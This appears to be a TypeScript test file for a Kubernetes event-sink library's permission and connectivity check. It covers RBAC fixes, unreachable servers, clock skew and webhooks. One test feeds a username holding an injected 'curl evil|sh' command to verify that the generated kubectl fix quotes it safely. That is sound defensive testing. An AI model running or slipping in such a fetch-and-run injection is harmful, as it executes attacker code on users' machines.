import { test } from "node:test";
import assert from "node:assert/strict";
import { FakeTime } from "@std/testing/time";
import { type AccessReport, type ApiVersion, FetchEventSink } from "../../../mod.ts";
import { EventsApiServer, type EventsApiServerOptions } from "../../../src/serve/server/mod.ts";

const REVIEWS = "/apis/authorization.k8s.io/v1/selfsubjectaccessreviews";
const WHO_AM_I = "/apis/authentication.k8s.io/v1/selfsubjectreviews";

/** How a server differs from an `EventsApiServer`. */
interface Scene extends EventsApiServerOptions {
  readonly apiVersion?: ApiVersion;
  readonly namespace?: string;
  readonly user?: string;
  /** The permitted verbs, as `group/verb`; all by default. */
  readonly permitted?: readonly string[];
  readonly respond?: (request: Request) => Response | Promise<Response> | undefined;
  readonly signal?: AbortSignal;
}

function status(code: number, message: string, fields: Record<string, unknown> = {}): Response {
  return Response.json({ kind: "Status", code, message, ...fields }, { status: code });
}

/** Checks a server that behaves so, and returns the report, and what the server was asked. */
async function check(
  { apiVersion, namespace = "shop", user, permitted, respond, signal, ...options }: Scene = {},
): Promise<AccessReport & { readonly api: EventsApiServer; readonly requests: readonly string[] }> {
  const api = new EventsApiServer(options);
  const requests: string[] = [];
  const fetch = async (request: Request): Promise<Response> => {
    const { pathname, search } = new URL(request.url);
    requests.push(`${request.method} ${pathname}${search}`);
    const own = await respond?.(request);
    if (own !== undefined) return own;
    if (pathname === WHO_AM_I && user !== undefined) {
      return Response.json({ status: { userInfo: { username: user } } }, { status: 201 });
    }
    if (permitted !== undefined && pathname === REVIEWS) {
      const { spec: { resourceAttributes: { group, verb } } } = await request.json();
      return Response.json({ status: { allowed: permitted.includes(`${group}/${verb}`) } }, { status: 201 });
    }
    const group = pathname.startsWith("/api/") ? "" : "events.k8s.io";
    if (permitted !== undefined && pathname.endsWith("/events") && !permitted.includes(`${group}/create`)) {
      const where = `in API group "${group}" in the namespace "${namespace}"`;
      return status(403, `events is forbidden: User "${user ?? "ann"}" cannot create resource "events" ${where}`);
    }
    return api.fetch(request);
  };
  const sink = new FetchEventSink({ apiVersion, fetch, token: "hunter2" });
  const report = await sink.check({ namespace, signal });
  assert.ok(!JSON.stringify(report).includes("hunter2"));
  return { ...report, api, requests };
}

const all = { create: true, patch: true, list: true, watch: true };

test("FetchEventSink.check() reports a server that permits all, and stores nothing", async () => {
  for (const apiVersion of ["v1", "events.k8s.io/v1"] as const) {
    const { api, requests, version, ...report } = await check({ apiVersion, user: "ann" });
    assert.match(version!, /^v1\.\d+\.\d+/);
    assert.deepEqual(report, {
      ok: true,
      server: "http://127.0.0.1:8001",
      user: "ann",
      apiVersion,
      namespace: "shop",
      permitted: { "v1": all, "events.k8s.io/v1": all },
      clockSkewMs: undefined,
      problems: [],
    });
    assert.equal(api.events().length, 0);
    assert.equal(requests.filter((line) => line.includes("dryRun=All")).length, 1);
    assert.ok(!requests.some((line) => line.startsWith("GET") && line !== "GET /version"));
  }
});

test("FetchEventSink.check() checks the namespace of its options, or default", async () => {
  const { fetch } = new EventsApiServer();
  for (
    const [options, expected] of [[{}, "default"], [{ namespace: "" }, "default"], [{ namespace: "shop" }, "shop"]]
  ) {
    const config = { fetch, ...options as { namespace?: string } }; // as of loadKubeconfig()
    assert.equal((await new FetchEventSink(config).check()).namespace, expected);
  }
});

test("FetchEventSink.check() explains a missing role, with the Role and RoleBinding", async () => {
  const { ok, user, permitted, problems } = await check({ permitted: ["/create"], user: "ann" });
  assert.deepEqual([ok, user], [false, "ann"]);
  assert.deepEqual(permitted, {
    "v1": { create: true, patch: false, list: false, watch: false },
    "events.k8s.io/v1": { create: false, patch: false, list: false, watch: false },
  });
  const [{ type, message, fix, manifests } = assert.fail(), ...others] = problems;
  assert.deepEqual(others, []);
  assert.equal(type, "forbidden");
  assert.equal(message, 'ann may not patch events in the API group "" in the namespace shop');
  assert.equal(
    fix,
    "kubectl create role event-recorder --verb=create,patch --resource=events,events.events.k8s.io -n shop && " +
      "kubectl create rolebinding event-recorder --role=event-recorder --user=ann -n shop",
  );
  const metadata = { name: "event-recorder", namespace: "shop" };
  assert.deepEqual(manifests, [
    {
      apiVersion: "rbac.authorization.k8s.io/v1",
      kind: "Role",
      metadata,
      rules: [{ apiGroups: ["", "events.k8s.io"], resources: ["events"], verbs: ["create", "patch"] }],
    },
    {
      apiVersion: "rbac.authorization.k8s.io/v1",
      kind: "RoleBinding",
      metadata,
      roleRef: { apiGroup: "rbac.authorization.k8s.io", kind: "Role", name: "event-recorder" },
      subjects: [{ apiGroup: "rbac.authorization.k8s.io", kind: "User", name: "ann" }],
    },
  ]);
});

test("FetchEventSink.check() names the scheme, the host or the port as the fix if these are wrong", async () => {
  for (
    const [cause, fix] of [
      ["received corrupt message of type InvalidContentType", /other scheme.*http:\/\/ or https:\/\//],
      ["client error (SendRequest): invalid HTTP version parsed", /other scheme/],
      ["dns error: failed to lookup address information", /the host in the server's URL/],
      ["Fetch failed: Requests to port 9 are blocked", /^Serve it on another port/],
      ["bad port", /^Serve it on another port/],
      ["connection refused", /Start the server or `kubectl proxy`.*--server\)/],
    ] as const
  ) {
    const sink = new FetchEventSink({ fetch: () => Promise.reject(new TypeError(cause)) });
    const { problems } = await sink.check({ signal: AbortSignal.timeout(60_000) });
    assert.deepEqual(problems.map(({ type }) => type), ["unreachable"]);
    assert.match(problems[0]!.fix, fix);
  }
});

test("FetchEventSink.check() binds the role to a service account, and names the API that is permitted", async () => {
  const account = await check({
    user: "system:serviceaccount:ops:controller",
    permitted: ["events.k8s.io/create", "events.k8s.io/patch"],
  });
  const [problem] = account.problems;
  assert.match(problem!.message, /^system:serviceaccount:ops:controller may not create or patch events /);
  assert.match(problem!.fix, /--serviceaccount=ops:controller -n shop; or record in events\.k8s\.io\/v1, which is/);
  assert.deepEqual(problem!.manifests![1]!["subjects"], [{
    kind: "ServiceAccount",
    name: "controller",
    namespace: "ops",
  }]);
  const quoted = await check({ user: "Ann O'Hara", permitted: [] });
  assert.match(quoted.problems[0]!.fix, /--user='Ann O'\\''Hara' -n shop$/);
});

test("FetchEventSink.check() quotes a name from the server, and removes its control characters", async () => {
  const hostile = await check({ user: "system:serviceaccount:shop:x; curl evil|sh #\u001b[2K\u202e", permitted: [] });
  const { message, fix } = hostile.problems[0]!;
  assert.match(fix, / --user='system:serviceaccount:shop:x; curl evil\|sh #.*' -n shop$/);
  assert.doesNotMatch(`${hostile.user}${message}${fix}`, /[\p{Cc}\p{Cf}]/u);
});

test("FetchEventSink.check() takes the user from a refusal if the server does not report it", async () => {
  const { user, problems } = await check({ permitted: [] });
  assert.equal(user, "ann");
  assert.match(problems[0]!.message, /^ann may not create or patch events/);
});

test("FetchEventSink.check() explains a missing role if the server answers no access reviews", async () => {
  const { permitted, problems } = await check({
    permitted: [],
    respond: ({ url }) => url.endsWith(REVIEWS) ? status(404, "not found") : undefined,
  });
  assert.deepEqual(Object.values(permitted.v1), Array(4).fill(undefined));
  assert.deepEqual(problems.map(({ type }) => type), ["forbidden"]);
  assert.match(problems[0]!.message, /^ann may not create events in the API group ""/);
});

test("FetchEventSink.check() reports a server that permits events, but cannot store them at present", async () => {
  const { ok, problems } = await check({
    respond: ({ method, url }) => method === "POST" && url.includes("dryRun") ? status(503, "no etcd") : undefined,
  });
  assert.deepEqual([ok, problems.map(({ type, message }) => [type, message])], [false, [["unavailable", "no etcd"]]]);
});

test("FetchEventSink.check() calls an anonymous client unauthorized", async () => {
  const { problems } = await check({ user: "system:anonymous", permitted: [] });
  assert.deepEqual(problems.map(({ type }) => type), ["unauthorized"]);
  assert.match(problems[0]!.fix, /loadKubeconfig\(\)/);
});

test("FetchEventSink.check() finds a missing and a terminating namespace", async () => {
  const missing = await check({ namespacePhase: () => "Missing" });
  assert.deepEqual(missing.problems, [{
    type: "namespace-missing",
    message: "The namespace shop does not exist: events are stored in the namespace of their object",
    fix: "kubectl create namespace shop, or pass another one",
  }]);
  const terminating = await check({ namespacePhase: () => "Terminating", apiVersion: "events.k8s.io/v1" });
  assert.deepEqual(terminating.problems.map(({ type }) => type), ["namespace-terminating"]);
  assert.equal(terminating.ok, false);
});

test("FetchEventSink.check() finds a missing namespace behind a missing role, if it may read namespaces", async () => {
  const { problems } = await check({
    permitted: [],
    respond: (request) =>
      request.url.endsWith("/api/v1/namespaces/shop")
        ? status(404, 'namespaces "shop" not found', { details: { kind: "namespaces", name: "shop" } })
        : undefined,
  });
  assert.deepEqual(problems.map(({ type }) => type), ["namespace-missing", "forbidden"]);
});

test("FetchEventSink.check() reports an API that is not served", async () => {
  const { problems } = await check({
    apiVersion: "events.k8s.io/v1",
    respond: ({ url }) => url.includes("/apis/events.k8s.io/") ? new Response("404", { status: 404 }) : undefined,
  });
  assert.deepEqual(problems.map(({ type }) => type), ["not-served"]);
  assert.match(problems[0]!.fix, /^Record in v1/);
});

test("FetchEventSink.check() reports a clock that differs, which prevents nothing", async () => {
  for (const [hours, text] of [[1, "60 min behind"], [-1, "60 min ahead of"]] as const) {
    const { ok, clockSkewMs, problems } = await check({
      respond: ({ url }) =>
        url.endsWith("/version")
          ? Response.json({ gitVersion: "v1.37.2" }, {
            headers: { date: new Date(Date.now() + hours * 3_600_000).toUTCString() },
          })
          : undefined,
    });
    assert.equal(ok, true);
    assert.ok(Math.abs(clockSkewMs! - hours * 3_600_000) < 60_000, `${clockSkewMs}`);
    assert.deepEqual(problems.map(({ type }) => type), ["clock"]);
    assert.match(problems[0]!.message, new RegExp(`^The local clock is ${text} the server's`));
  }
});

test("FetchEventSink.check() reports no skew within the resolution of the Date header", async () => {
  const now = Date.UTC(2026, 0, 1, 12);
  for (
    const [ms, expected] of [
      [0, 0],
      [999, 0],
      [-1000, 0],
      [1000, 1000],
      [-2500, -2000],
      [30_000, 30_000],
    ] as const
  ) {
    const time = new FakeTime(now);
    try {
      const headers = { date: new Date(now + ms).toUTCString() };
      const { clockSkewMs } = await check({
        respond: ({ url }) =>
          url.endsWith("/version") ? Response.json({ gitVersion: "v1.37.2" }, { headers }) : undefined,
      });
      assert.equal(clockSkewMs, expected, `${ms}`);
    } finally {
      time.restore();
    }
  }
});

test("FetchEventSink.check() reports no skew for a slow response", async () => {
  for (const [aheadMs, expected] of [[0, 0], [3000, 0], [5000, 1000], [-1000, 0], [-4000, -3000]] as const) {
    const time = new FakeTime(Date.UTC(2026, 0, 1, 12));
    try {
      const { clockSkewMs } = await check({
        respond: ({ url }) => {
          if (!url.endsWith("/version")) return undefined;
          const headers = { date: new Date(Date.now() + aheadMs).toUTCString() };
          time.tick(4000);
          return Response.json({ gitVersion: "v1.37.2" }, { headers });
        },
      });
      assert.equal(clockSkewMs, expected, `${aheadMs}`);
    } finally {
      time.restore();
    }
  }
});

for (
  const [title, type, message, answer] of [
    ["a rejected token", "unauthorized", /^Unauthorized \(check the token\)$/, () => status(401, "Unauthorized")],
    ["a page", "not-an-api-server", /\/version does not look like that of/, () => new Response("<html>")],
    [
      "JSON of something else",
      "not-an-api-server",
      /\/version does not look like that of/,
      () => Response.json({ ok: true }),
    ],
    [
      "400",
      "not-an-api-server",
      /\/version does not look like that of .*: HTTP 400 Bad Request \(is it https\?\)$/,
      () => {
        return new Response("Client sent an HTTP request to an HTTPS server.\n", {
          status: 400,
          statusText: "Bad Request",
        });
      },
    ],
    [
      "404",
      "not-an-api-server",
      /\/version does not look like that of an API server: HTTP 404/,
      () => new Response("not found", { status: 404 }),
    ],
    ["a redirect", "not-an-api-server", /redirect/, () => Response.redirect("http://127.0.0.1/login")],
    ["502", "unavailable", /HTTP 502/, () => new Response("Bad gateway", { status: 502 })],
    ["504", "unavailable", /HTTP 504/, () => new Response("Gateway timeout", { status: 504 })],
    ["503", "unavailable", /overloaded/, () => status(503, "overloaded")],
    ["no connection", "unreachable", /connection refused/, () => Promise.reject(new TypeError("connection refused"))],
    [
      "an untrusted certificate",
      "unreachable",
      /certificate is not trusted/,
      () => Promise.reject(new TypeError("invalid peer certificate: UnknownIssuer")),
    ],
  ] as const
) {
  test(`FetchEventSink.check() reports ${title} as ${type}`, async () => {
    const { ok, problems, requests } = await check({ respond: answer });
    assert.equal(ok, false);
    assert.deepEqual(problems.map((problem) => problem.type), [type]);
    assert.match(problems[0]!.message, message);
    assert.ok(problems[0]!.fix.length > 10);
    if (title === "400") assert.match(problems[0]!.fix, /https:/);
    const isProxy = problems[0]!.fix.startsWith("The proxy in front of the API server cannot reach it");
    assert.equal(isProxy, title === "502" || title === "504");
    if (title === "an untrusted certificate") assert.match(problems[0]!.fix, /certificate authority/);
    assert.deepEqual(requests, Array(requests.length).fill("GET /version"));
  });
}

test("FetchEventSink.check() reports a server that does not respond until the signal aborts", async () => {
  const abort = new AbortController();
  const checking = check({ signal: abort.signal, respond: () => new Promise(() => {}) });
  abort.abort();
  assert.deepEqual((await checking).problems.map(({ type }) => type), ["unreachable"]);
});

test("FetchEventSink.check() reports a token function that fails", async () => {
  const token = (): never => {
    throw new Error("the disk is gone");
  };
  const { problems } = await new FetchEventSink({ fetch: new EventsApiServer().fetch, token }).check();
  assert.deepEqual(problems.map(({ type, message }) => [type, message]), [
    ["unauthorized", "Cannot get a token: the disk is gone"],
  ]);
  assert.match(problems[0]!.fix, /^Log in again, or fix what the message names/);
});

test("FetchEventSink.check() works without permission for version and reviews", async () => {
  const { ok, version, permitted } = await check({
    respond: ({ url }) => /version|reviews/.test(url) ? status(403, "forbidden") : undefined,
  });
  assert.deepEqual([ok, version, permitted.v1.create, permitted.v1.list], [true, undefined, undefined, undefined]);
});

test("FetchEventSink.check() reports an admission webhook that rejects events, and ignores one without dry runs", async () => {
  const admission = (code: number, message: string): Promise<AccessReport> =>
    check({ respond: ({ url }) => url.includes("dryRun") ? status(code, message) : undefined });
  const rejected = await admission(403, 'admission webhook "policy" denied the request: no events on Sundays');
  assert.deepEqual(rejected.problems.map(({ type }) => type), ["rejected"]);
  assert.match(rejected.problems[0]!.message, /no events on Sundays/);
  const ignored = await admission(400, 'admission webhook "policy" does not support dry run');
  assert.deepEqual([ignored.ok, ignored.problems], [true, []]);
});

test("FetchEventSink.check() rejects an invalid namespace or signal", async () => {
  const sink = new FetchEventSink();
  await assert.rejects(sink.check({ namespace: "a/b" }), { name: "TypeError", message: /namespace's name/ });
  await assert.rejects(sink.check({ namespace: "" }), { name: "TypeError" });
  await assert.rejects(sink.check({ signal: 1 as never }), { name: "TypeError" });
});
